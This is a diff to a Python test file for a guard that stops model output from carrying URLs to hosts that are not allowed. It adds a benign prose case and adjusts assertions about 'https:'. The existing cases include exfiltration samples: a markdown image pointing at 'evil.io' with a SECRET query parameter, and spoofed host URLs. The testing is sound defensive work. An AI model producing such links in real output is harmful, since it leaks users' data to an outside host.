@@ -19,6 +19,7 @@ CASES = [
     ("[wiki](//www.wikipedia.org/wiki/Cat)", True),
     ("Read www.wikipedia.org/wiki/Dog", True),
     ("a plain sentence with no link: use https when you can", True),
+    ("Top news: markets. Reviews: 5 stars. The https: scheme.", True),
     ("![x](https://evil.io/p.png?d=SECRET)", False),
     ("see https://acme.com.evil.io/", False),
     ("https://acme.com:443@evil.io/", False),
@@ -67,8 +68,8 @@ def test_the_compiled_guard_agrees_token_by_token(policy, smollm2_tokenizer):
 def test_without_allowed_hosts_no_url_can_start():
     policy = Policy(forbid=exfiltration_rules(()))
     assert find_violations(policy, "https://acme.com")
-    assert find_violations(policy, "https:")
-    assert not find_violations(policy, "use https when you can")
+    assert find_violations(policy, "see https:a")
+    assert not find_violations(policy, "use https when you can; the https: scheme; top news: today")
 
 
 @pytest.mark.parametrize("bad", [["https://acme.com"], ["acme.com/path"], ["*.acme.com"], ["acme.com:8080"], [""],
